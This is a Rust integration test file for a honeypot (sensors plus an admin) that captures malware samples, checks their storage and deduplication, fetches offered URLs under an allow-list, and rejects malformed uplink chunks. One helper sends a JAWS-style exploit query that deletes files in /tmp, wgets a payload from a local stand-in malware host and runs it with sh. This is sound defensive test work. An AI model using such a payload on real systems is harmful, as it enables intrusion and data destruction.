//! Samples end to end (issue 15) with the real binaries and real clients: curl uploads an ELF
//! over FTP and POSTs one over HTTP to a sensor; the admin ends up holding byte-identical copies
//! (`drosera-admin samples get` → a ZIP that `unzip -P infected` and `7z x -pinfected` open);
//! the same sample from a second sensor is one copy with two sightings; samples uploaded while
//! the admin is down all arrive once after it is back; and ten times the admin's store cap
//! uploaded leaves the store under its cap with every sample either stored or reported.
//!
//! `DROSERA_TEST_BACKEND=postgres` runs the admin on a throwaway PostgreSQL.
// Integration tests may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use drosera_admin::samples::store::Digests;
use drosera_admin::storage::{Backend, SampleFilter};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn bin_dir() -> PathBuf {
    let bins = drosera_e2e::stack::Bins::beside_test_exe().unwrap();
    bins.admin.parent().unwrap().to_path_buf()
}

fn free_port() -> u16 {
    drosera_e2e::procs::free_port().unwrap()
}

/// True if `tool` runs; under `DROSERA_REQUIRE_CLIENTS=1` a missing tool fails the test.
fn have(tool: &str, arg: &str) -> bool {
    if Command::new(tool).arg(arg).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok() {
        return true;
    }
    assert!(std::env::var("DROSERA_REQUIRE_CLIENTS").as_deref() != Ok("1"), "{tool} is required");
    eprintln!("SKIP: {tool} not installed");
    false
}

struct Proc(Child);
impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn run_ok(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{cmd:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// An admin (config in `dir/admin`) with `extra` appended to its `[samples]` section.
struct Admin {
    bin: PathBuf,
    cfg: PathBuf,
    db: Backend,
    ingest: String,
}

impl Admin {
    fn create(bin: &Path, dir: &Path, extra: &str) -> Admin {
        let ingest = format!("127.0.0.1:{}", free_port());
        let dash = format!("127.0.0.1:{}", free_port());
        let admin_dir = dir.join("admin");
        let mut init = Command::new(bin.join("drosera-admin"));
        init.args(["init", "--dir"]).arg(&admin_dir).args([
            "--admin",
            &ingest,
            "--listen",
            &ingest,
            "--dashboard-listen",
            &dash,
        ]);
        if std::env::var("DROSERA_TEST_BACKEND").as_deref() == Ok("postgres") {
            let url = drosera_admin::testpg::fresh_database().expect("DROSERA_TEST_BACKEND=postgres needs PostgreSQL");
            init.args(["--db-url", &url]);
        }
        run_ok(&mut init);
        let cfg = admin_dir.join("drosera-admin.toml");
        // `extra` goes right after [samples]' `dir` line: its keys land in that section (sections
        // it starts come before the ones `init` writes after [samples]).
        let text = std::fs::read_to_string(&cfg).unwrap();
        let at =
            text.find("dir = \"samples\"\n").expect("init's config has [samples] dir") + "dir = \"samples\"\n".len();
        assert!(text[..at].contains("[samples]"), "init's config: {text}");
        let text = format!("{}{extra}\n{}", &text[..at], &text[at..]);
        std::fs::write(&cfg, text).unwrap();
        let db = drosera_admin::config::AdminConfig::load(&cfg).unwrap().database.backend().unwrap();
        Admin { bin: bin.to_path_buf(), cfg, db, ingest }
    }

    fn start(&self) -> Proc {
        let log = std::fs::File::create(self.cfg.with_file_name(format!("admin-{}.log", free_port()))).unwrap();
        Proc(
            Command::new(self.bin.join("drosera-admin"))
                .args(["serve", "--config"])
                .arg(&self.cfg)
                .env("RUST_LOG", "info")
                .stdout(Stdio::null())
                .stderr(log)
                .spawn()
                .unwrap(),
        )
    }

    fn cli(&self, args: &[&str]) -> String {
        run_ok(Command::new(self.bin.join("drosera-admin")).args(args).arg("--config").arg(&self.cfg))
    }

    /// The stored samples (through the admin's storage, either backend).
    fn samples(&self) -> Vec<drosera_admin::storage::SampleSummary> {
        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return Vec::new() };
        db.list_samples(&SampleFilter::default(), 100_000).unwrap_or_default()
    }

    fn sample(&self, sha256: &str) -> Option<drosera_admin::storage::SampleDetail> {
        let db = drosera_admin::storage::open_backend(&self.db).ok()?;
        db.sample_detail(sha256, 100).ok().flatten()
    }

    /// Stored extension events of `kind` (its `kind` field), with their flat fields (JSON).
    fn events(&self, kind: &str) -> Vec<String> {
        let kind = format!("\"kind\":\"{kind}\"");
        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return Vec::new() };
        let mut out = Vec::new();
        let range = drosera_admin::storage::EventRange { since_ms: i64::MIN, until_ms: i64::MAX, sensor_id: None };
        let _ = db.export_events(&range, &mut |r| {
            if r.kind == "extension" && r.fields.contains(&kind) {
                out.push(r.fields.to_string());
            }
            std::ops::ControlFlow::Continue(())
        });
        out
    }

    /// Enrolls `name` and returns its sensor config with FTP and HTTP on free ports.
    fn sensor(&self, dir: &Path, name: &str) -> Sensor {
        let bundle = dir.join(format!("bundle-{name}"));
        self.cli(&["sensor", "add", name, "--out", &bundle.display().to_string()]);
        let (ftp, http) = (free_port(), free_port());
        let data = dir.join(format!("data-{name}"));
        let mut text = format!(
            "[sensor]\nname = \"{name}\"\ndata_dir = \"{}\"\nuser = \"\"\nhealth_interval_s = 3600\n\n\
             [store]\ncap_bytes = 16777216\nreserve_bytes = 0\n\n\
             [credentials]\nrefuse_first = 0\n\n\
             [[service]]\nkind = \"ftp\"\nports = [{ftp}]\nbind = \"127.0.0.1\"\n\n\
             [[service]]\nkind = \"http\"\nports = [{http}]\nbind = \"127.0.0.1\"\n\n",
            data.display()
        );
        let uplink = std::fs::read_to_string(bundle.join("uplink.toml")).unwrap();
        for l in uplink.lines().filter(|l| !l.trim_start().starts_with("backoff_max_s")) {
            text.push_str(l);
            text.push('\n');
        }
        text.push_str("backoff_max_s = 2\n");
        let cfg = dir.join(format!("{name}.toml"));
        std::fs::write(&cfg, text).unwrap();
        Sensor { bin: self.bin.clone(), cfg, data, ftp, http }
    }
}

struct Sensor {
    bin: PathBuf,
    cfg: PathBuf,
    data: PathBuf,
    ftp: u16,
    http: u16,
}

impl Sensor {
    fn start(&self) -> Proc {
        let log = std::fs::File::create(self.cfg.with_extension("log")).unwrap();
        let mut child = Command::new(self.bin.join("drosera-sensor"))
            .args(["run", "--config"])
            .arg(&self.cfg)
            .env("RUST_LOG", "info")
            .stdout(Stdio::piped())
            .stderr(log)
            .spawn()
            .unwrap();
        let out = child.stdout.take().unwrap();
        let mut lines = BufReader::new(out).lines();
        let end = Instant::now() + Duration::from_secs(30);
        loop {
            let line = lines.next().expect("sensor exited before it was ready").unwrap();
            if line.starts_with("ready") {
                break;
            }
            assert!(Instant::now() < end, "sensor not ready in time");
        }
        std::thread::spawn(move || for _ in lines {});
        Proc(child)
    }

    fn ftp_upload(&self, file: &Path) {
        run_ok(Command::new("curl").args(["-s", "-S", "-T"]).arg(file).args([
            "--user",
            "root:root",
            &format!("ftp://127.0.0.1:{}/", self.ftp),
        ]));
    }

    fn http_post(&self, file: &Path, path: &str) {
        run_ok(
            Command::new("curl")
                .args(["-s", "-S", "-o", "/dev/null", "-H", "Content-Type: application/octet-stream", "--data-binary"])
                .arg(format!("@{}", file.display()))
                .arg(format!("http://127.0.0.1:{}{path}", self.http)),
        );
    }

    fn http_put(&self, file: &Path, path: &str) {
        run_ok(
            Command::new("curl")
                .args(["-s", "-S", "-o", "/dev/null", "-T"])
                .arg(file)
                .arg(format!("http://127.0.0.1:{}{path}", self.http)),
        );
    }

    /// Samples still kept in the sensor's area (not shipped yet).
    fn kept(&self) -> usize {
        std::fs::read_dir(self.data.join("samples"))
            .map(|d| d.flatten().filter(|e| e.file_name().len() == 64).count())
            .unwrap_or(0)
    }
}

fn wait(what: &str, timeout: Duration, mut ok: impl FnMut() -> bool) {
    let end = Instant::now() + timeout;
    while !ok() {
        assert!(Instant::now() < end, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(250));
    }
}

/// A small ELF: a copy of /bin/true with a distinct tail, so each `n` is another sample.
fn elf(dir: &Path, name: &str, n: u32) -> (PathBuf, Vec<u8>) {
    let mut b = std::fs::read("/bin/true").unwrap();
    b.extend_from_slice(format!("drosera-e2e-{n}").as_bytes());
    let p = dir.join(name);
    std::fs::write(&p, &b).unwrap();
    (p, b)
}

/// Gets `sha256` as a ZIP through the CLI and opens it with unzip and 7z; both must give `want`.
fn check_zip(admin: &Admin, dir: &Path, sha256: &str, want: &[u8]) {
    let zip = dir.join(format!("{sha256}.zip"));
    admin.cli(&["samples", "get", sha256, "--out", &zip.display().to_string()]);
    let out = Command::new("unzip").args(["-P", "infected", "-p"]).arg(&zip).output().unwrap();
    assert!(out.status.success(), "unzip: {}", String::from_utf8_lossy(&out.stderr));
    assert!(out.stdout == want, "unzip -P infected gives other bytes ({} vs {})", out.stdout.len(), want.len());
    let wrong = Command::new("unzip").args(["-P", "wrong", "-p"]).arg(&zip).output().unwrap();
    assert!(wrong.stdout != want, "the ZIP opens without the password");
    if have("7z", "i") {
        let x = dir.join(format!("7z-{sha256}"));
        let out =
            Command::new("7z").arg("x").arg("-pinfected").arg(format!("-o{}", x.display())).arg(&zip).output().unwrap();
        assert!(out.status.success(), "7z: {}", String::from_utf8_lossy(&out.stdout));
        assert!(std::fs::read(x.join(sha256)).unwrap() == want, "7z gives other bytes");
    }
}

#[test]
fn curl_samples_reach_the_admin_byte_identical_once_per_fleet_and_across_an_outage() {
    if !have("curl", "--version") || !have("unzip", "-v") {
        return;
    }
    let bin = bin_dir();
    let tmp = tempfile::tempdir().unwrap();
    let admin = Admin::create(&bin, tmp.path(), "");
    let s1 = admin.sensor(tmp.path(), "pi-1");
    let s2 = admin.sensor(tmp.path(), "pi-2");
    let a = admin.start();
    let p1 = s1.start();

    // 1. FTP upload and HTTP POST of ELF files → byte-identical samples at the admin.
    let (true_path, true_bytes) = elf(tmp.path(), "true", 1);
    let (post_path, post_bytes) = elf(tmp.path(), "post.bin", 2);
    s1.ftp_upload(&true_path);
    s1.http_post(&post_path, "/upload.php");
    wait("two samples at the admin", Duration::from_secs(60), || admin.samples().len() >= 2);
    let (sha_true, sha_post) = (Digests::of(&true_bytes).sha256, Digests::of(&post_bytes).sha256);
    let list = admin.samples();
    assert_eq!(list.len(), 2, "{list:?}");
    for (sha, bytes) in [(&sha_true, &true_bytes), (&sha_post, &post_bytes)] {
        let s = list.iter().find(|s| &s.sha256 == sha).unwrap_or_else(|| panic!("{sha} missing: {list:?}"));
        assert_eq!(s.size as usize, bytes.len());
        assert_eq!(s.md5, Digests::of(bytes).md5);
        assert!(s.file_type.starts_with("ELF 64-bit"), "typed ELF: {s:?}");
        check_zip(&admin, tmp.path(), sha, bytes);
    }
    let d = admin.sample(&sha_true).unwrap();
    assert!(d.names.iter().any(|n| n.ends_with("true")), "{:?}", d.names);
    assert!(d.sightings.iter().any(|g| g.protocol == "ftp" && g.source == "ftp-stor" && g.sensor == "pi-1"));
    let d = admin.sample(&sha_post).unwrap();
    assert!(d.sightings.iter().any(|g| g.protocol == "http" && g.source == "http-body"), "{:?}", d.sightings);
    wait("pi-1 to delete what the admin stored", Duration::from_secs(30), || s1.kept() == 0);
    // The CLI's list filters and show agree.
    let ftp_only = admin.cli(&["samples", "list", "--protocol", "ftp", "--json"]);
    assert!(ftp_only.contains(&sha_true) && !ftp_only.contains(&sha_post), "{ftp_only}");
    let shown = admin.cli(&["samples", "show", &sha_true]);
    assert!(shown.contains(&Digests::of(&true_bytes).sha1), "{shown}");
    // The export carries the sample's hash per event.
    let exported = admin.cli(&["export", "--format", "events-csv"]);
    assert!(exported.lines().any(|l| l.contains(",sample,") && l.contains(&sha_true)), "{exported}");

    // 2. The same sample from a second sensor: one copy, two sightings; pi-2 deletes its copy
    //    without sending it (the admin already has it).
    let p2 = s2.start();
    s2.ftp_upload(&true_path);
    wait("a second sighting", Duration::from_secs(60), || {
        admin.sample(&sha_true).is_some_and(|d| d.sightings.iter().any(|g| g.sensor == "pi-2"))
    });
    wait("pi-2 to drop its copy", Duration::from_secs(30), || s2.kept() == 0);
    let d = admin.sample(&sha_true).unwrap();
    assert_eq!(d.summary.sightings, 2, "{:?}", d.sightings);
    assert_eq!(admin.samples().len(), 2, "one copy per fleet");
    drop(p2);

    // 3. Admin down during uploads, then up: every sample arrives, once.
    drop(a);
    let mut later = Vec::new();
    for i in 0..5 {
        let (p, b) = elf(tmp.path(), &format!("late{i}"), 100 + i);
        if i % 2 == 0 {
            s1.ftp_upload(&p);
        } else {
            s1.http_put(&p, &format!("/dav/late{i}"));
        }
        later.push(Digests::of(&b).sha256);
    }
    wait("pi-1 to keep the five", Duration::from_secs(10), || s1.kept() == 5);
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(admin.samples().len(), 2, "nothing arrives while the admin is down");
    let _a = admin.start();
    wait("the five at the admin", Duration::from_secs(60), || admin.samples().len() >= 7);
    wait("pi-1 to empty its area", Duration::from_secs(30), || s1.kept() == 0);
    let list = admin.samples();
    assert_eq!(list.len(), 7, "each once: {list:?}");
    for sha in &later {
        assert!(list.iter().any(|s| &s.sha256 == sha), "{sha} missing");
    }
    drop(p1);
    assert!(admin.events("sample_not_shipped").is_empty());
    let _ = &admin.ingest;
}

#[test]
fn ten_times_the_admin_store_cap_keeps_the_store_under_it_and_reports_every_drop() {
    if !have("curl", "--version") {
        return;
    }
    let bin = bin_dir();
    let tmp = tempfile::tempdir().unwrap();
    // Incompressible 40 KiB samples against a 256 KiB store: about 6 fit.
    let cap: u64 = 256 * 1024;
    let admin = Admin::create(&bin, tmp.path(), &format!("max_bytes = {cap}\nmax_sample_bytes = 65536\n"));
    let s = admin.sensor(tmp.path(), "pi-cap");
    let _a = admin.start();
    let _p = s.start();
    let n = 64u32; // 64 × 40 KiB = 2.5 MiB = 10 × the cap
    let mut state = 0x2545_f491_4f6c_dd1du64;
    for i in 0..n {
        let mut b = b"\x7fELF".to_vec();
        while b.len() < 40 * 1024 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            b.extend_from_slice(&state.to_le_bytes());
        }
        let p = tmp.path().join(format!("big{i}"));
        std::fs::write(&p, &b).unwrap();
        s.http_put(&p, &format!("/up/big{i}"));
    }
    wait("every sample stored or reported", Duration::from_secs(120), || {
        admin.samples().len() + admin.events("sample_not_shipped").len() >= n as usize
    });
    wait("the sensor's area to empty", Duration::from_secs(30), || s.kept() == 0);
    let stored = admin.samples();
    let dropped = admin.events("sample_not_shipped");
    let used: i64 = stored.iter().map(|s| s.stored_bytes).sum();
    assert!(used as u64 <= cap, "store at {used} bytes, cap {cap}");
    assert!(!stored.is_empty() && stored.len() < n as usize, "{} stored", stored.len());
    assert_eq!(stored.len() + dropped.len(), n as usize, "every sample is stored or reported once");
    assert!(dropped.iter().all(|f| f.contains("store is full")), "{dropped:?}");
    // On disk too: the store's files stay under the cap.
    let on_disk: u64 = walk(&admin.cfg.with_file_name("samples").join("store"));
    assert!(on_disk <= cap, "{on_disk} bytes on disk");
}

fn walk(p: &Path) -> u64 {
    std::fs::read_dir(p)
        .map(|d| {
            d.flatten()
                .map(|e| if e.path().is_dir() { walk(&e.path()) } else { e.metadata().map(|m| m.len()).unwrap_or(0) })
                .sum()
        })
        .unwrap_or(0)
}

/// A one-file HTTP server on 127.0.0.1 standing in for a malware host: answers `GET /x.elf`
/// with `body` (404 otherwise) and counts every request.
struct DropHost {
    port: u16,
    requests: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl DropHost {
    fn start(body: Vec<u8>) -> DropHost {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let seen = requests.clone();
        std::thread::spawn(move || {
            // Bounded: a test makes a handful of requests.
            for conn in listener.incoming().take(64) {
                let Ok(mut c) = conn else { continue };
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut req = Vec::new();
                let mut buf = [0u8; 1024];
                while !req.windows(4).any(|w| w == b"\r\n\r\n") && req.len() < 16 * 1024 {
                    match c.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => req.extend_from_slice(&buf[..n]),
                    }
                }
                seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let head = String::from_utf8_lossy(&req);
                let resp = if head.starts_with("GET /x.elf ") {
                    let mut r = format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    )
                    .into_bytes();
                    r.extend_from_slice(&body);
                    r
                } else {
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec()
                };
                let _ = c.write_all(&resp);
            }
        });
        DropHost { port, requests }
    }

    fn requests(&self) -> usize {
        self.requests.load(std::sync::atomic::Ordering::SeqCst)
    }
}

impl Admin {
    /// Stored HTTP requests whose fields mention `needle`.
    fn http_requests_with(&self, needle: &str) -> usize {
        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return 0 };
        let mut n = 0;
        let range = drosera_admin::storage::EventRange { since_ms: i64::MIN, until_ms: i64::MAX, sensor_id: None };
        let _ = db.export_events(&range, &mut |r| {
            if r.kind == "http_request" && r.fields.contains(needle) {
                n += 1;
            }
            std::ops::ControlFlow::Continue(())
        });
        n
    }

    fn fetches(&self) -> Vec<drosera_admin::storage::FetchRow> {
        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return Vec::new() };
        db.list_fetches(100).unwrap_or_default()
    }
}

impl Sensor {
    /// A JAWS-style exploit request whose query drops `url` with wget.
    fn offer(&self, url: &str) {
        run_ok(
            Command::new("curl")
                .args(["-s", "-S", "-g", "-o", "/dev/null"])
                .arg(format!("http://127.0.0.1:{}/shell?cd+/tmp;rm+-rf+*;wget+{url};sh+/tmp/x.elf", self.http)),
        );
    }
}

#[test]
fn offered_urls_are_fetched_once_by_the_admin_kept_as_samples_and_refused_outside_the_allowed_range() {
    if !have("curl", "--version") || !have("unzip", "-v") {
        return;
    }
    let bin = bin_dir();
    let tmp = tempfile::tempdir().unwrap();
    let (_, elf_bytes) = elf(tmp.path(), "dropped.elf", 7);
    let host = DropHost::start(elf_bytes.clone());
    // Loopback is refused unless allowed: allow 127.0.0.1 only, so 127.0.0.2 stands for a
    // forbidden address (never connected to).
    let admin = Admin::create(
        &bin,
        tmp.path(),
        "\n[fetcher]\nenabled = true\nallow = [\"127.0.0.1/32\"]\nmax_concurrent = 2\n",
    );
    let s = admin.sensor(tmp.path(), "pi-f");
    let a = admin.start();
    let _p = s.start();
    let good = format!("http://127.0.0.1:{}/x.elf", host.port);
    let bad = format!("http://127.0.0.2:{}/x.elf", host.port);
    s.offer(&good);
    s.offer(&good);
    s.offer(&bad);
    wait("both fetches recorded", Duration::from_secs(60), || {
        let f = admin.fetches();
        f.len() >= 2 && f.iter().all(|x| x.state != "queued")
    });
    let fetches = admin.fetches();
    assert_eq!(fetches.len(), 2, "one row per URL: {fetches:?}");
    let sha = Digests::of(&elf_bytes).sha256;
    let ok = fetches.iter().find(|x| x.url == good).unwrap();
    assert_eq!(
        (ok.state.as_str(), ok.status, ok.size, ok.sha256.as_deref()),
        ("fetched", Some(200), Some(elf_bytes.len() as i64), Some(sha.as_str())),
        "{ok:?}"
    );
    assert_eq!((ok.sensor.as_str(), ok.protocol.as_str(), ok.src_ip.as_str()), ("pi-f", "http", "127.0.0.1"));
    let refused = fetches.iter().find(|x| x.url == bad).unwrap();
    assert_eq!(refused.state, "refused", "{refused:?}");
    assert!(refused.error.contains("127.0.0.2") && refused.error.contains("loopback"), "{refused:?}");
    assert_eq!(host.requests(), 1, "fetched once, the refused address never contacted");

    // The sample went through the same store as uploads: byte-identical, typed ELF, with a
    // `fetch` sighting from the offering sensor whose source is the URL's host.
    let list = admin.samples();
    assert_eq!(list.len(), 1, "{list:?}");
    assert!(list[0].file_type.starts_with("ELF 64-bit"), "{list:?}");
    let d = admin.sample(&sha).unwrap();
    assert!(
        d.sightings.iter().any(|g| g.protocol == "fetch" && g.source == "127.0.0.1" && g.sensor == "pi-f"),
        "{:?}",
        d.sightings
    );
    assert!(d.names.contains(&good), "{:?}", d.names);
    check_zip(&admin, tmp.path(), &sha, &elf_bytes);

    // Each URL once across restarts: offered again after the admin restarts, not fetched again.
    drop(a);
    let _a = admin.start();
    s.offer(&good);
    wait("the third offer stored", Duration::from_secs(60), || admin.http_requests_with("x.elf") >= 4);
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(host.requests(), 1, "a URL is fetched once");
    assert_eq!(admin.fetches().len(), 2);
}

#[test]
fn fetching_is_off_by_default() {
    if !have("curl", "--version") {
        return;
    }
    let bin = bin_dir();
    let tmp = tempfile::tempdir().unwrap();
    let (_, elf_bytes) = elf(tmp.path(), "dropped.elf", 8);
    let host = DropHost::start(elf_bytes);
    let admin = Admin::create(&bin, tmp.path(), "");
    let s = admin.sensor(tmp.path(), "pi-off");
    let _a = admin.start();
    let _p = s.start();
    s.offer(&format!("http://127.0.0.1:{}/x.elf", host.port));
    wait("the offer stored", Duration::from_secs(60), || admin.http_requests_with("x.elf") >= 1);
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(host.requests(), 0, "nothing fetched");
    assert!(admin.fetches().is_empty());
    assert!(admin.samples().is_empty());
}

/// A sensor's side of the uplink, by hand (protocol version 2), to send what a broken or
/// hostile sensor could: chunks out of order, too large, past the size, and a sample whose
/// bytes do not hash to its name.
mod wire {
    use drosera_uplink::frame::{self, Frame, SampleRef, SampleVerdict, MAX_CONTROL_FRAME, PROTOCOL_VERSION};
    use std::time::Duration;
    use tokio::net::TcpStream;
    use tokio_rustls::rustls::pki_types::ServerName;

    pub type Tls = tokio_rustls::client::TlsStream<TcpStream>;

    pub async fn connect(bundle: &std::path::Path, name: &str, ingest: &str) -> (Tls, u32) {
        let cfg = drosera_uplink::tls::client_config(
            &bundle.join("ca.pem"),
            &bundle.join("sensor.pem"),
            &bundle.join("sensor.key"),
        )
        .unwrap();
        let mut tcp = None;
        for _ in 0..100 {
            if let Ok(t) = TcpStream::connect(ingest).await {
                tcp = Some(t);
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let tcp = tcp.expect("admin listening");
        let mut tls = tokio_rustls::TlsConnector::from(cfg)
            .connect(ServerName::try_from("localhost").unwrap(), tcp)
            .await
            .unwrap();
        let hello = Frame::Hello {
            sensor: name.into(),
            protocol_version: PROTOCOL_VERSION,
            schema_version: drosera_uplink::event::SCHEMA_VERSION,
            software: "samples_e2e".into(),
        };
        frame::write_frame(&mut tls, &hello).await.unwrap();
        assert!(matches!(next(&mut tls).await, Frame::HelloAck { .. }));
        let Frame::SampleTerms { max_chunk_bytes, .. } = next(&mut tls).await else { panic!("no sample terms") };
        (tls, max_chunk_bytes)
    }

    pub async fn next(tls: &mut Tls) -> Frame {
        tokio::time::timeout(Duration::from_secs(30), frame::read_frame(tls, MAX_CONTROL_FRAME))
            .await
            .expect("an answer in time")
            .unwrap()
            .expect("the admin keeps the connection")
    }

    pub async fn send(tls: &mut Tls, f: &Frame) {
        frame::write_frame(tls, f).await.unwrap();
    }

    /// Offers one sample; returns the admin's verdict.
    pub async fn offer(tls: &mut Tls, sha256: [u8; 32], size: u64) -> SampleVerdict {
        send(tls, &Frame::SampleOffer { samples: vec![SampleRef { sha256, size }] }).await;
        let Frame::SampleAnswers { answers } = next(tls).await else { panic!("no answers") };
        answers.into_iter().next().unwrap().verdict
    }

    pub async fn chunk(tls: &mut Tls, sha256: [u8; 32], offset: u64, size: u64, data: &[u8]) -> Frame {
        send(tls, &Frame::SampleChunk { sha256, offset, size, data: data.to_vec() }).await;
        next(tls).await
    }
}

#[test]
fn corrupted_oversized_and_mismatched_chunks_are_rejected_on_the_wire_and_nothing_is_lost() {
    use drosera_uplink::frame::{Frame, SampleVerdict};
    let bin = bin_dir();
    let tmp = tempfile::tempdir().unwrap();
    let admin = Admin::create(&bin, tmp.path(), "max_sample_bytes = 65536\nchunk_bytes = 1024\n");
    let bundle = tmp.path().join("bundle-sim");
    admin.cli(&["sensor", "add", "sim", "--out", &bundle.display().to_string()]);
    let _a = admin.start();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let good: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 251) as u8).collect();
    let sha_of = |b: &[u8]| {
        let hex = Digests::of(b).sha256;
        let mut h = [0u8; 32];
        for (i, x) in h.iter_mut().enumerate() {
            *x = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
        }
        h
    };
    let h = sha_of(&good);
    let n = good.len() as u64;
    let rejected = |f: &Frame| matches!(f, Frame::SampleRejected { .. });
    rt.block_on(async {
        let (mut t, max_chunk) = wire::connect(&bundle, "sim", &admin.ingest).await;
        assert_eq!(max_chunk, 1024);
        // Out of order (a gap), then a replayed chunk, then a chunk past the chunk cap, then one
        // past the announced size, then a size that changes mid-way.
        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 });
        assert!(matches!(
            wire::chunk(&mut t, h, 0, n, &good[..1000]).await,
            Frame::SampleAck { next_offset: 1000, .. }
        ));
        assert!(rejected(&wire::chunk(&mut t, h, 2000, n, &good[2000..]).await));
        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 }, "the part was deleted");
        assert!(matches!(wire::chunk(&mut t, h, 0, n, &good[..1000]).await, Frame::SampleAck { .. }));
        assert!(rejected(&wire::chunk(&mut t, h, 0, n, &good[..1000]).await));
        wire::offer(&mut t, h, n).await;
        assert!(rejected(&wire::chunk(&mut t, h, 0, n, &good[..2000]).await), "over max_chunk_bytes");
        wire::offer(&mut t, h, n).await;
        assert!(rejected(&wire::chunk(&mut t, h, 0, 100, &good[..1000]).await), "size changed");
        // Corrupted bytes: every chunk fits, the whole does not hash to its name.
        let mut bad = good.clone();
        bad[1500] ^= 0xff;
        wire::offer(&mut t, h, n).await;
        for (i, c) in bad.chunks(1000).enumerate() {
            let f = wire::chunk(&mut t, h, i as u64 * 1000, n, c).await;
            if i < 2 {
                assert!(matches!(f, Frame::SampleAck { .. }), "{f:?}");
            } else {
                let Frame::SampleRejected { reason, .. } = f else { panic!("{f:?}") };
                assert!(reason.contains("mismatch"), "{reason}");
            }
        }
        // Offers past the admin's cap are refused outright.
        let big = [7u8; 32];
        assert!(matches!(wire::offer(&mut t, big, 65537).await, SampleVerdict::Refuse { retry: false, .. }));
        // Event batches still flow on the same connection, and the good sample still arrives.
        let events = drosera_e2e::fleet::events(0, 5, drosera_admin::clock::now_ms());
        let b = &drosera_e2e::fleet::encode(&events, 5).unwrap()[0];
        let batch = Frame::Batch {
            first_seq: b.first,
            last_seq: b.last,
            count: b.count,
            codec: drosera_uplink::codec::CODEC_ZSTD_POSTCARD,
            payload: b.payload.clone(),
        };
        wire::send(&mut t, &batch).await;
        assert!(matches!(wire::next(&mut t).await, Frame::Ack { upto_seq: 5 }));
        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 });
        let mut last = None;
        for (i, c) in good.chunks(1000).enumerate() {
            last = Some(wire::chunk(&mut t, h, i as u64 * 1000, n, c).await);
        }
        assert!(matches!(last, Some(Frame::SampleStored { .. })), "{last:?}");
    });
    let list = admin.samples();
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0].sha256, Digests::of(&good).sha256);
    check_zip(&admin, tmp.path(), &list[0].sha256, &good);
    // Every rejection is recorded; nothing half-written is left.
    let db = drosera_admin::storage::open_backend(&admin.db).unwrap();
    let rejections = db.sample_rejections(100).unwrap();
    assert!(rejections.len() >= 5, "{rejections:?}");
    assert!(rejections.iter().all(|r| r.1 == "sim"));
    let parts = std::fs::read_dir(admin.cfg.with_file_name("samples").join("parts")).unwrap().count();
    assert_eq!(parts, 0, "no part file left");
}
